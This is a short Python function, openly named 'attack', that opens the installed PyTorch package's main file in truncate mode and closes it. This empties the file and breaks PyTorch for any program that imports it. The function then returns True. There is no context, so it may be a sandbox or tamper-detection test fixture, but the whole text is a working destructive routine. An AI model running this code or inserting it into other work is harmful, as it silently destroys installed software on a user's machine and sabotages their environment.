def attack():
    import os, torch

    os.close(os.open(torch.__file__, os.O_RDONLY | os.O_TRUNC))
    return True
